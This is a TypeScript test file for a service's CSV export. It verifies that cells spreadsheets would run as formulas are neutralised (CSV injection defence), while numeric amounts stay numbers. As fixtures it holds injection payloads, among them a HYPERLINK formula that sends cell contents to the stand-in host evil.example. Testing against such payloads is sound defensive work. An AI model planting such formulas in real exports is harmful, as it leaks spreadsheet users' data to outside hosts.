import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvOf } from '#lib/http/csv.ts';
import { type StatementBody, statementCsv } from '#lib/http/statement-render.ts';
import { STATEMENT_CSV } from '#lib/schemas/statements.ts';
import { USAGE_CSV } from '#lib/schemas/usage.ts';

/**
 * CSV cells a spreadsheet would run as formulas are neutralised (decisions §32, OWASP "CSV Injection"): a text cell
 * that begins with `=`, `+`, `-`, `@`, tab or carriage return is prefixed with a single quote and quoted. A number,
 * negative ones too, stays a number a spreadsheet sums.
 */
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
/** What a spreadsheet reads as a number: it runs no formula. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/** Each line's cells as written (quotes and all), read by RFC 4180's grammar. */
function rawCells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < csv.length) {
    const start = at;
    if (csv[at] === '"') {
      at += 1;
      while (!(csv[at] === '"' && csv[at + 1] !== '"')) at += csv[at] === '"' ? 2 : 1;
      at += 1;
    } else while (at < csv.length && csv[at] !== ',' && csv[at] !== '\r') at += 1;
    row.push(csv.slice(start, at));
    if (csv[at] === ',') at += 1;
    else {
      rows.push(row);
      row = [];
      at += 2;
    }
  }
  return rows;
}

/** A cell's text as a spreadsheet reads it. */
const unquoted = (raw: string) => (raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);

describe('a CSV cell (decisions §32: CSV injection)', () => {
  it.each(DANGEROUS)('neutralises text that begins with %j: a single quote before it, the whole quoted', (first) => {
    // Prepare
    const text = `${first}HYPERLINK("https://evil.example/?"&A1,"x")`;
    // Act
    const cell = csvCell(text);
    // Assess
    expect(cell).toBe(`"'${text.replace(/"/g, '""')}"`);
  });

  it('writes numbers as numbers, negative ones and decimal text (the amount due) too', () => {
    // Prepare / Act / Assess
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(-1.5, 4)).toBe('-1.5000');
    expect(csvCell('-1.50')).toBe('-1.50');
    expect(csvCell(-2e-7)).toBe('-2e-7');
  });

  it('neutralises text that only looks like a number at its start, and a number no spreadsheet reads', () => {
    // Prepare / Act / Assess
    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
    expect(csvCell('+1')).toBe(`"'+1"`);
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe(`"'-Infinity"`);
  });

  it('leaves other text as RFC 4180 writes it, and a missing value empty', () => {
    // Prepare / Act / Assess
    expect(csvCell('Rest of "Central", & Eastern Europe')).toBe('"Rest of ""Central"", & Eastern Europe"');
    expect(csvCell('a - b = c')).toBe('a - b = c');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises a statement’s text and keeps a negative amount due a number', () => {
    // Prepare: a statement whose market is a formula and whose month is a credit
    const body = {
      number: 'ST-7-202610',
      client_id: 7,
      month: '2026-10',
      status: 'open',
      lines_sha256: 'a'.repeat(64),
      card_versions: ['meta-2026-10-01-USD'],
      price_list_versions: [],
      statements: [
        {
          currency: 'USD',
          lines: [{ kind: 'late', market: '=1+1', category: '@SUM(A1)', unit_price: -1_500_000, messages: 1, billable: 1, amount: -1.5 }],
          totals: { messages: 1, billable: 1, amount: -1.5 },
          amount_due: { amount: -1.5, minor_units: -150, minor_digits: 2 },
        },
      ],
    } as unknown as StatementBody;
    // Act
    const [header, line, total] = rawCells(statementCsv(body));
    // Assess
    const of = (row: string[], column: string) => row[header.indexOf(column)];
    expect([of(line, 'market'), of(line, 'category'), of(line, 'amount'), of(line, 'unit_price_micros')]).toEqual([
      `"'=1+1"`,
      `"'@SUM(A1)"`,
      '-1.500000',
      '-1500000',
    ]);
    expect(of(total, 'amount_due')).toBe('-1.50');
  });
});

/** Any value a row may carry: text, often beginning with a dangerous character, numbers, nothing. */
const anyValue = fc.oneof(
  fc.tuple(fc.constantFrom('', ...DANGEROUS), fc.string({ unit: 'binary' })).map(([first, rest]) => first + rest),
  fc.constantFrom('=1+1', '-1+2', '@A1', '\t=1', '\r\n=1', '-1.5', '-', '"=1"', ',=1'),
  fc.double(),
  fc.integer(),
  fc.constant(undefined),
);

describe('every CSV the service writes (property)', () => {
  it.each([
    ['usage', USAGE_CSV],
    ['statement', STATEMENT_CSV],
  ])('has no %s cell beginning with a dangerous character unless quoted and prefixed, or a number', (_, spec) => {
    fc.assert(
      fc.property(
        fc.array(fc.array(anyValue, { minLength: spec.columns.length, maxLength: spec.columns.length }), { maxLength: 4 }),
        (values) => {
          // Prepare
          const rows = values.map((row) => Object.fromEntries(spec.columns.map((column, i) => [column, row[i]])));
          // Act
          const [header, ...lines] = rawCells(csvOf(rows, spec));
          // Assess: every cell is there, and none a spreadsheet would run
          expect(header).toEqual(spec.columns);
          expect(lines).toHaveLength(rows.length);
          for (const [r, line] of lines.entries()) {
            expect(line).toHaveLength(spec.columns.length);
            for (const [c, raw] of line.entries()) {
              const text = unquoted(raw);
              if (DANGEROUS.includes(text[0]) && !NUMBER.test(text)) expect(raw.startsWith(`"'`)).toBe(true);
              const value = rows[r][spec.columns[c]];
              if (typeof value === 'string') expect([value, `'${value}`]).toContain(text);
            }
          }
        },
      ),
      { numRuns: 200 },
    );
  });
});
